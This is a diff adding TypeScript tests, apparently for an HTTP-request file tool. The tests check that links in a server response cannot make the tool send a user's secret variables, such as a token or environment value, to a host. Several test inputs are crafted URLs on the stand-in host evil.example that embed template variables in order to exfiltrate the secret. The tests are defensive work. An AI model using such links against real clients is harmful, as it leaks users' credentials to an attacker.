@@ -246,6 +246,65 @@ test.each(['x =\n\nDELETE {{base}}/flats/1\n#', '?x\nDELETE {{base}}/flats/1', '
 	},
 );
 
+const SECRET = 'S3CR3T';
+const ASKING = [
+	`@base = https://api.example.com/v1\n@token = ${SECRET}\n`,
+	'### flats\nGET {{base}}/flats/?a=1\n\n',
+].join('');
+
+async function sentAfter(href: string): Promise<readonly string[]> {
+	const body = JSON.stringify({ _links: { one: { href } } });
+	const environment = {
+		'/work/http-client.env.json': JSON.stringify({ dev: { key: SECRET, 'a.response.b': SECRET } }),
+	};
+	const urls: string[] = [];
+	for (const link of responseLinks(answer(body, [['location', href]]))) {
+		const written = `${ASKING}${following(link, ASKING)}`;
+		const { request } = await resolved(written, {
+			environment: 'dev',
+			env: { TOKEN: SECRET },
+			files: environment,
+		});
+		urls.push(request.url);
+	}
+	return urls;
+}
+
+test.each([
+	'https://{{token}}.evil.example/',
+	'https://%7B%7Btoken%7D%7D.evil.example/',
+	'https://{host}.evil.example/',
+])('a link to a host with braces is none: %s', async (href) => {
+	expect(await sentAfter(href)).toEqual([]);
+});
+
+test.each([
+	['https://evil.example/?x={{$env.TOKEN}}%zz', 'https://evil.example/?x={{$env.TOKEN}}%25zz'],
+	['https://evil.example/?{{token}}%zz', 'https://evil.example/?{{token}}%zz'],
+	['https://evil.example/?x={{{token}}}%', 'https://evil.example/?x={{{token}}}%25'],
+	['https://evil.example/{{token}}', 'https://evil.example/{{token}}'],
+	['https://{{token}}@evil.example/', 'https://{{token}}@evil.example/'],
+	['https://evil.example/{a.response.b}', 'https://evil.example/{a.response.b}'],
+])('a server is not sent the variable that its link names: %s', async (href, sent) => {
+	const urls = (await sentAfter(href)).map((url) => url.replaceAll('%7B', '{').replaceAll('%7D', '}'));
+	expect(urls).toEqual([sent, sent]);
+});
+
+test('whatever a link says, no variable of this side is in what is sent', async () => {
+	const piece = fc.constantFrom(
+		...['{', '}', '{{', '}}', '%7B', '%7D', '%zz', '%', '+', ' ', 'token', 'key', '$env.TOKEN', '$processEnv TOKEN'],
+		...['{{token}}', '{token}', '{?token}', '{&key}', '{{$env.TOKEN}}', '?', '&', '=', '#', '/', ';', '@', ':', '\n'],
+	);
+	const start = fc.constantFrom('https://evil.example/', 'https://', '/', '?', '', '/v1/', 'https://evil.example/?x=');
+	const href = fc.tuple(start, fc.array(fc.oneof({ weight: 5, arbitrary: piece }, fc.string()), { maxLength: 9 }));
+	await fc.assert(
+		fc.asyncProperty(href, async ([first, rest]) => {
+			expect((await sentAfter(first + rest.join(''))).join('\n')).not.toContain(SECRET);
+		}),
+		{ numRuns: 500 },
+	);
+});
+
 test('a link that was followed asks for the same', async () => {
 	await fc.assert(
 		fc.asyncProperty(fc.array(fc.tuple(fc.string({ minLength: 1 }), fc.string()), { maxLength: 4 }), async (pairs) => {
